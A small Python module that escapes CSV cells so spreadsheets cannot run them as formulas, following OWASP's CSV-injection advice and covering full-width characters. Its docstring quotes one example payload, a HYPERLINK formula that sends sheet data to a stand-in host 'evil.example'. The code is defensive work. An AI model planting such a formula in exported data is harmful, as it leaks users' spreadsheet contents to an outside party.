"""CSV files for spreadsheets, with cells a spreadsheet cannot run as formulas.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
Excel, LibreOffice and Google Sheets (a display name `=HYPERLINK("https://evil.example/?x="&A2)`
would send the sheet's data away on a click), so such a cell gets a leading `'`, as OWASP
recommends (https://owasp.org/www-community/attacks/CSV_Injection). The full-width forms are
included: Japanese Excel turns a leading `＝` into `=` as it reads a cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")  # i18n: input


def safe_cell(value: str) -> str:
    """`value` as a spreadsheet shows it, never as a formula it runs."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def to_csv(header: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(c) for c in header])
    writer.writerows([safe_cell(c) for c in row] for row in rows)
    return out.getvalue()
